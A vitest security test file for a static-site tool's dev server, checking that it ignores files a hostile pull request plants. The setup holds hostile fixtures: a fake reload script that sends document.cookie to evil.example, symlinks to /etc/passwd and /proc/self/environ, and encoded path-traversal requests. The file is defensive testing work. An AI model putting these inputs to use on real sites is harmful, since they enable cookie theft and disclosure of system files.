/**
 * `strategy dev` on a hostile pull request (issue 10, findings 1, 4 and 9). The strategy plants an old
 * `.cache/dev-site` holding a script page and symlinks to /etc/passwd and /proc/self/environ, and its
 * own `templates/assets/dev-reload.js`. The real server, started on it, serves none of those; answers
 * only to its own Host; and its event stream names no absolute path.
 */
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BUILTIN_TEMPLATES } from '../../scripts/assemble/templates.js';
import { startDevServer, type RunningDevServer } from '../support/dev-server.js';
import { cleanCopies, copyExample } from '../support/example-copy.js';

let root: string;
let port: number;
const logs: string[] = [];
let server: RunningDevServer;
let strategyFilesBefore: string[];

function listFiles(dir: string): string[] {
  const out: string[] = [];
  const walk = (d: string, rel: string) => {
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      const r = rel ? `${rel}/${e.name}` : e.name;
      if (e.isDirectory()) walk(path.join(d, e.name), r);
      else out.push(r);
    }
  };
  walk(dir, '');
  return out.sort();
}

/** A raw GET, so the Host header can be anything (fetch would set it itself). */
function get(
  pathname: string,
  host = `127.0.0.1:${port}`,
): Promise<{ status: number; body: string; headers: http.IncomingHttpHeaders }> {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: '127.0.0.1', port, path: pathname, method: 'GET', headers: { host } }, (res) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (c: string) => {
        body += c;
      });
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body, headers: res.headers }));
    });
    req.on('error', reject);
    req.end();
  });
}

/** The first `problems` event of the stream, read raw. */
function firstProblems(): Promise<string> {
  return new Promise((resolve, reject) => {
    const req = http.request(
      { host: '127.0.0.1', port, path: '/__events', headers: { host: `localhost:${port}` } },
      (res) => {
        let buffer = '';
        res.setEncoding('utf8');
        res.on('data', (c: string) => {
          buffer += c;
          const m = /event: problems\ndata: (.*)\n\n/.exec(buffer);
          if (m) {
            resolve(m[1]!);
            req.destroy();
          }
        });
      },
    );
    req.on('error', (err) => ((err as NodeJS.ErrnoException).code === 'ECONNRESET' ? undefined : reject(err)));
    req.end();
  });
}

beforeAll(async () => {
  root = copyExample();
  const planted = path.join(root, '.cache/dev-site');
  fs.mkdirSync(path.join(planted, 'assets'), { recursive: true });
  fs.writeFileSync(
    path.join(planted, 'planted.html'),
    '<!doctype html><title>x</title><script>alert("planted")</script>',
  );
  fs.symlinkSync('/etc/passwd', path.join(planted, 'passwd'));
  fs.symlinkSync('/proc/self/environ', path.join(planted, 'environ.html'));
  fs.symlinkSync('/etc/passwd', path.join(planted, 'assets/site.css'));
  fs.mkdirSync(path.join(root, 'templates/assets'), { recursive: true });
  fs.writeFileSync(
    path.join(root, 'templates/assets/dev-reload.js'),
    'fetch("https://evil.example/?" + document.cookie);\n',
  );
  strategyFilesBefore = listFiles(root);
  server = await startDevServer({ root, log: (s) => logs.push(s) });
  port = server.port;
}, 120_000);

afterAll(async () => {
  await server.stop();
  cleanCopies();
});

describe('strategy dev on a strategy with a planted .cache/dev-site', () => {
  it('serves its own build, not the planted script page or the symlinks, under any name', async () => {
    const home = await get('/');
    expect(home.status).toBe(200);
    expect(home.body).toContain('<main id="main-content"');
    expect(home.headers['content-security-policy']).toContain("script-src 'self'");
    for (const p of [
      '/planted.html',
      '/passwd',
      '/environ.html',
      '/.cache/dev-site/planted.html',
      '/.cache/dev-site/passwd',
      '/..%2f.cache%2fdev-site%2fpasswd',
      '/%2e%2e/.cache/dev-site/passwd',
    ]) {
      const res = await get(p);
      expect({ p, status: res.status }).toEqual({ p, status: 404 });
      expect(res.body).not.toMatch(/root:|alert\("planted"\)|PATH=/);
    }
    const css = await get('/assets/site.css');
    expect(css.status).toBe(200);
    expect(css.body).not.toContain('root:');
  });

  it('writes nothing into the strategy folder and leaves the planted folder alone', () => {
    expect(listFiles(root)).toEqual(strategyFilesBefore);
  });

  it('serves the tool’s own live-reload script, never the strategy’s', async () => {
    const js = await get('/assets/dev-reload.js');
    expect(js.status).toBe(200);
    expect(js.body).toBe(fs.readFileSync(path.join(BUILTIN_TEMPLATES, 'assets/dev-reload.js'), 'utf8'));
    expect(js.body).not.toContain('evil.example');
  });

  it('answers only to its own Host (DNS rebinding)', async () => {
    expect((await get('/', `evil.example:${port}`)).status).toBe(421);
    expect((await get('/__events', `evil.example:${port}`)).status).toBe(421);
    expect((await get('/', `localhost:${port + 1}`)).status).toBe(421);
    expect((await get('/', `localhost:${port}`)).status).toBe(200);
  });

  it('names no absolute path in its event stream or its log', async () => {
    // A template that links out of the folder fails the build with a message about a file.
    fs.mkdirSync(path.join(root, 'templates/partials'), { recursive: true });
    fs.symlinkSync('/etc/hostname', path.join(root, 'templates/partials/footer.hbs'));
    const problems = await firstProblems();
    expect(problems).toContain('templates/partials/footer.hbs');
    for (const secret of [root, fs.realpathSync(root), os.tmpdir(), os.homedir()])
      expect(problems).not.toContain(secret);
    for (const line of logs) expect(line).not.toContain(fs.realpathSync(root));
  }, 120_000);
});
